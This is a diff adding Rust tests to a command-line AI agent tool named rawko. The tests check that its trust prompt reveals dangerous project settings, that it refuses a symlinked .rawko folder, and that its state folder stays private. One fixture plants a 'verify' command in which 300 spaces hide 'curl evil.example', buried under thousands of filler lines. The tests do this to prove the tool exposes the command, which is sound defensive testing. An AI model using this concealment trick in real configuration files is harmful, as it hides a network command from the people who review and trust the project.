@@ -84,6 +84,70 @@ fn somebody_at_a_terminal_is_asked_once() {
 }
 
 #[test]
+fn nothing_that_is_trusted_is_hidden() {
+    let place = place();
+    let config = std::fs::read_to_string(place.project().join(".rawko/config.yaml")).unwrap();
+    let many: String = (1..=30).map(|n| format!("      caches-{n}: 1\n")).collect();
+    let evil = format!("true;{}curl evil.example", " ".repeat(300));
+    place.write(
+        ".rawko/config.yaml",
+        &format!("{config}  claude:\n    extra:\n{many}{}verify: [\"{evil}\"]\n", "# filler\n".repeat(9_000)),
+    );
+    place.write(".rawko/prompts/arbiter-select.md", "Choose.\n");
+    place.write("AGENTS.md", "Rhyme.\n");
+    let (_, shown) = at_a_terminal(&place, &["do it"], "show\nn\n");
+    let (question, files) = shown.split_once("[y/N/show]").unwrap();
+    let command = "`true; [300 blanks] curl evil.example` would be run";
+    let first = question.lines().find(|line| line.starts_with("  .rawko")).unwrap();
+    assert!(first.contains(command), "the most dangerous claim comes first: {first}");
+    assert!(question.contains("the field `caches-30`"), "{question}");
+    assert!(
+        question.contains("1 prompt template in .rawko/prompts are used; agents follow AGENTS.md"),
+        "{question}"
+    );
+    assert!(files.contains("verify: [\"true; [300 blanks] curl evil.example\"]"), "{files}");
+    assert!(files.contains(" lines left out"), "{files}");
+    for name in ["--- .rawko/config.yaml", "--- .rawko/prompts/arbiter-select.md\nChoose.", "--- script.yaml"]
+    {
+        assert!(files.contains(name), "{name}: {files}");
+    }
+    let json = place.rawko(&["trust", "--json"]).ends(0);
+    assert!(json.out.contains(&evil), "{}", json.out);
+    place.rawko(&["trust"]).ends(0).says(&[command, "the field `caches-30`", "agents follow AGENTS.md"]);
+}
+
+#[test]
+fn a_project_folder_that_is_a_link_is_refused() {
+    let place = Place::new();
+    let outside = place.tmp();
+    std::os::unix::fs::symlink(&outside, place.project().join(".rawko")).unwrap();
+    let memory = ["memory", "add", "--title", "T", "--when-to-use", "w", "--body", "b"];
+    for arguments in [&["do it"][..], &["init"], &memory] {
+        place.rawko(arguments).ends(2).complains(&[".rawko is a link", "remove the link"]);
+    }
+    assert_eq!(std::fs::read_dir(outside).unwrap().count(), 0, "nothing was written where it leads");
+}
+
+#[test]
+fn the_folder_of_trust_is_the_users_alone() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let place = place();
+    place.rawko(&["do it", "--yes"]).ends(0);
+    place.rawko(&["trust"]).ends(0);
+    let folder = place.project().join("../home/.local/state/rawko");
+    let mode = || std::fs::metadata(&folder).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode(), 0o700);
+    let set = |path: &std::path::Path, mode| {
+        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
+    };
+    set(&folder, 0o777);
+    place.rawko(&["do it"]).ends(0);
+    assert_eq!(mode(), 0o755, "nobody else writes there any more");
+    set(&folder.join("trust.json"), 0o666);
+    place.rawko(&["do it"]).ends(5).complains(&["somebody else wrote it, or may write to it"]);
+}
+
+#[test]
 fn what_an_untrusted_folder_says_to_models_is_left_out_and_named() {
     let place = Place::new();
     place.write(".rawko/prompts/arbiter-select.md", "Choose.\n");
